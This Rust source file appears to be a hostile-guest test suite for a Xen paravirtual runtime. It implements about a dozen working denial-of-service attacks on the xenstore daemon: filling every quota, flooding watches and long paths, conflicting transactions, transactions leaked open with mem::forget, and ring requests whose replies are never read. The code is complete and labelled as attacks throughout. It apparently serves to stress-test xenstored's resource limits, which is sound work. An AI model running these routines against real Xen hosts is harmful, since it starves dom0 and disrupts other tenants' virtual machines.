//! Requests of xenstore that cost its daemon more than this domain.

use alloc::format;
use alloc::string::String;
use alloc::vec::Vec;
use core::future::poll_fn;
use core::pin::pin;
use core::task::Poll;

use frontends::xenbus::{Nodes, StoreError, Transaction, Xenstore};
use pvrt::boot::StoreInfo;
use pvrt::event::Port;
use pvrt::executor::join_all;
use ring_abi::io::xs_wire::{
    XS_DIRECTORY, XS_READ, XS_RESET_WATCHES, XS_SET_PERMS, XS_WATCH, XsdSockmsg, client,
};
use zerocopy::IntoBytes;

type Result<T> = core::result::Result<T, StoreError>;

/// The directory of all these nodes, which every domain may write to.
const HOME: &str = "data";
/// Children of one node, nearly as many as a domain may own.
const CHILDREN: u32 = 990;
/// Requests in flight.
const DEPTH: usize = 16;

/// Makes as many children of one node as fit.
async fn children(store: &Xenstore) -> Result<u32> {
    for n in 0..CHILDREN {
        match store.write(&format!("{HOME}/{n}"), "").await {
            Err(StoreError::Refused(_)) => return Ok(n),
            other => other?,
        }
    }
    Ok(CHILDREN)
}

/// Lists many children in a transaction that has changed one of them.
pub(super) async fn directories(store: Xenstore) -> Result<()> {
    children(&store).await?;
    loop {
        let transaction = store.begin().await?;
        transaction.write(&format!("{HOME}/0"), "x").await?;
        for _ in 0..64 {
            list(&transaction).await?;
        }
    }
}

/// Sends many requests at once that list the children.
async fn list(transaction: &Transaction) -> Result<()> {
    let lists = (0..DEPTH).map(|_| transaction.request(XS_DIRECTORY, &[b"data\0"]));
    join_all(lists).await.into_iter().try_for_each(|list| list.map(drop))
}

/// Turns a refusal by a quota into `None`, so that the attack goes on.
fn calm<T>(answer: Result<T>) -> Result<Option<T>> {
    match answer {
        Ok(answer) => Ok(Some(answer)),
        Err(StoreError::Refused(_)) => Ok(None),
        Err(error) => Err(error),
    }
}

/// Runs `act` for all numbers below `count`, many at once.
async fn all<F: Future<Output = Result<()>>>(count: usize, act: impl Fn(usize) -> F) -> Result<()> {
    for first in (0..count).step_by(DEPTH) {
        for answer in join_all((first..count.min(first + DEPTH)).map(&act)).await {
            calm(answer)?;
        }
    }
    Ok(())
}

/// Writes of the largest values.
pub(super) async fn writes(store: Xenstore) -> Result<()> {
    let store = &store;
    loop {
        all(64, |n| async move { store.write(&format!("{HOME}/{n}"), [b'x'; 2048]).await }).await?;
    }
}

/// Does what an honest driver domain does: watches the state of its frontend, which is domain 2's, and takes each
/// event at once.
pub(super) async fn watched(store: Xenstore) -> Result<()> {
    let watch = store.watch("/local/domain/2/device/vbd/51712/state").await?;
    let mut events = 0u32;
    while watch.changed().await.is_some() {
        events += 1;
        if events.is_power_of_two() {
            pvrt::println!("hostile: {events} events");
        }
    }
    pvrt::println!("hostile: the watch is broken");
    Err(StoreError::Broken)
}

/// Changes, as a frontend, many nodes with long names below its state node at once.
pub(super) async fn floods(store: Xenstore) -> Result<()> {
    let own = store.read_str("domid").await?;
    let path = &format!("/local/domain/{own}/device/vbd/51712/state/{}", "n".repeat(2900));
    for round in 1u32.. {
        let transaction = store.begin().await?;
        let part = &transaction;
        all(120, |n| async move { part.write(&format!("{path}{n}"), "x").await }).await?;
        calm(transaction.commit().await)?;
        if round.is_power_of_two() {
            pvrt::println!("hostile: {round} floods");
        }
    }
    Ok(())
}

/// Sets the most watches on one node, then writes the node.
pub(super) async fn watches(store: Xenstore) -> Result<()> {
    let mut watches = Vec::new();
    while let Some(watch) = calm(store.watch(HOME).await)? {
        watches.push(watch);
    }
    loop {
        store.write(&format!("{HOME}/0"), "x").await?;
        for watch in &watches {
            watch.changed().await.ok_or(StoreError::Broken)?;
        }
    }
}

/// Commits transactions of many nodes; every second transaction conflicts with the one before.
pub(super) async fn transactions(store: Xenstore) -> Result<()> {
    loop {
        let pair = [store.begin().await?, store.begin().await?];
        for transaction in &pair {
            all(400, |n| async move { transaction.write(&format!("{HOME}/{n}"), "x").await }).await?;
        }
        for transaction in pair {
            calm(transaction.commit().await)?;
        }
    }
}

/// Makes and removes deep and broad subtrees.
pub(super) async fn subtrees(store: Xenstore) -> Result<()> {
    let store = &store;
    let deep = "/a".repeat(50);
    let deep = &deep;
    loop {
        all(2, |n| async move { store.mkdir(&format!("{HOME}/s/{n}{deep}")).await }).await?;
        all(500, |n| async move { store.mkdir(&format!("{HOME}/s/b/{n}")).await }).await?;
        calm(store.rm(&format!("{HOME}/s")).await)?;
    }
}

/// Fills every quota, then asks for more for ever.
pub(super) async fn quotas(store: Xenstore) -> Result<()> {
    let store = &store;
    let mut watches = Vec::new();
    while let Some(watch) = calm(store.watch(&format!("{HOME}/{}", watches.len())).await)? {
        watches.push(watch);
    }
    let mut open = Vec::new();
    while let Some(transaction) = calm(store.begin().await)? {
        let part = &transaction;
        all(40, |n| async move { part.write(&format!("{HOME}/t{n}"), [b'y'; 2000]).await }).await?;
        open.push(transaction);
    }
    loop {
        all(1100, |n| async move { store.write(&format!("{HOME}/{n}"), [b'x'; 1000]).await }).await?;
        for transaction in &open {
            all(64, |n| async move { transaction.write(&format!("{HOME}/u{n}"), [b'y'; 2000]).await })
                .await?;
        }
    }
}

/// Makes dom0 keep as much as possible: nodes with many permissions, watches, transactions that change permissions,
/// then events and long lists that this domain never reads.
pub(super) async fn unheard(store: Xenstore) -> Result<()> {
    let store = &store;
    let own = store.read_str("domid").await?;
    let set = &|n: usize| (format!("{HOME}/{n}"), format!("n{own}\0b2\0b3\0b4\0b5\0"));
    let mut watches = Vec::new();
    while let Some(watch) = calm(store.watch("attr").await)? {
        watches.push(watch);
    }
    children(store).await?;
    while let Some(transaction) = calm(store.begin().await)? {
        let part = &transaction;
        all(CHILDREN as usize, |n| async move {
            let (path, perms) = set(n);
            part.request(XS_SET_PERMS, &[path.as_bytes(), b"\0", perms.as_bytes()]).await.map(drop)
        })
        .await?;
        // The transaction stays open: the daemon gets no request that ends it.
        core::mem::forget(transaction);
    }
    let lists = (0..DEPTH).map(|_| store.request(XS_DIRECTORY, &[b"data\0"]));
    let write = store.write("attr/0", "");
    let (mut write, mut lists) = (pin!(write), pin!(join_all(lists)));
    // The requests are sent, and no code reads the answers.
    poll_fn(|context| {
        let _ = (write.as_mut().poll(context), lists.as_mut().poll(context));
        Poll::Ready(())
    })
    .await;
    loop {
        pvrt::hypercall::sched::yield_cpu();
    }
}

/// Makes a path of nearly the greatest length, the common parent of all nodes here: a comparison of two paths
/// must compare all of it.
async fn long(store: &Xenstore) -> Result<String> {
    let own = store.read_str("domid").await?;
    Ok(format!("/local/domain/{own}/{HOME}/{}", "p".repeat(2700)))
}

/// Removes many subtrees in a transaction, then makes deep paths beside them in the same transaction. At some point a
/// quota refuses a path, and the attack asks for that path for ever.
pub(super) async fn prefixes(store: Xenstore) -> Result<()> {
    let long = long(&store).await?;
    for n in 0..60 {
        calm(store.mkdir(&format!("{long}/a{n:02}/c")).await)?;
    }
    let transaction = store.begin().await?;
    for n in 0..60 {
        calm(transaction.rm(&format!("{long}/a{n:02}")).await)?;
    }
    for n in 0.. {
        let deep = format!("{long}/{n}{}", "/b".repeat(57));
        while calm(transaction.mkdir(&deep).await)?.is_none() {}
    }
    Ok(())
}

/// Makes and removes a deep path, commits transactions that remove many such subtrees, and sets and resets
/// the most watches.
pub(super) async fn removals(store: Xenstore) -> Result<()> {
    let long = long(&store).await?;
    loop {
        for n in 0..60 {
            calm(store.mkdir(&format!("{long}/a{n:02}/c")).await)?;
        }
        let transaction = store.begin().await?;
        for n in 0..60 {
            calm(transaction.rm(&format!("{long}/a{n:02}")).await)?;
        }
        calm(transaction.commit().await)?;
        calm(store.mkdir(&format!("{long}/d{}", "/b".repeat(57))).await)?;
        calm(store.rm(&format!("{long}/d")).await)?;
        for n in 0..128 {
            let path = format!("{long}/{n:03}");
            calm(store.request(XS_WATCH, &[path.as_bytes(), b"\0t\0"]).await)?;
        }
        calm(store.request(XS_RESET_WATCHES, &[b"\0"]).await)?;
    }
}

/// Commits transactions that make as many long names as possible, and others that remove them.
pub(super) async fn long_commits(store: Xenstore) -> Result<()> {
    let path = &long(&store).await?;
    let name = &"n".repeat(250);
    calm(store.mkdir(path).await)?;
    loop {
        let part = store.begin().await?;
        let made = &part;
        all(140, |n| async move { made.write(&format!("{path}/{name}{n}"), "x").await }).await?;
        calm(part.commit().await)?;
        let part = store.begin().await?;
        let gone = &part;
        all(140, |n| async move { gone.rm(&format!("{path}/{name}{n}")).await }).await?;
        calm(part.commit().await)?;
    }
}

/// Commits transactions that change the permissions of many long names.
pub(super) async fn long_perms(store: Xenstore) -> Result<()> {
    let own = store.read_str("domid").await?;
    let path = &long(&store).await?;
    let name = &"n".repeat(250);
    all(120, |n| {
        let store = store.clone();
        async move { store.mkdir(&format!("{path}/{name}{n}")).await }
    })
    .await?;
    for round in 0u64.. {
        let perms = &match round % 2 {
            0 => format!("n{own}\0b102\0b103\0b104\0b105\0"),
            _ => format!("n{own}\0b106\0b107\0b108\0b109\0"),
        };
        let transaction = store.begin().await?;
        let part = &transaction;
        all(120, |n| async move {
            let path = format!("{path}/{name}{n}");
            part.request(XS_SET_PERMS, &[path.as_bytes(), b"\0", perms.as_bytes()]).await.map(drop)
        })
        .await?;
        calm(transaction.commit().await)?;
    }
    Ok(())
}

/// Sends requests and never reads the replies.
pub(super) fn mute(info: StoreInfo) {
    let Ok(mut ring) = client(info.page) else { return };
    let path = b"name\0";
    let header = XsdSockmsg { r#type: XS_READ, req_id: 1, tx_id: 0, len: path.len() as u32 };
    let message = [header.as_bytes(), path].concat();
    let port = Port::adopt(info.port);
    let mut at = 0;
    while let Ok(written) = ring.write(&message[at..]) {
        at = (at + written) % message.len();
        port.notify();
    }
}
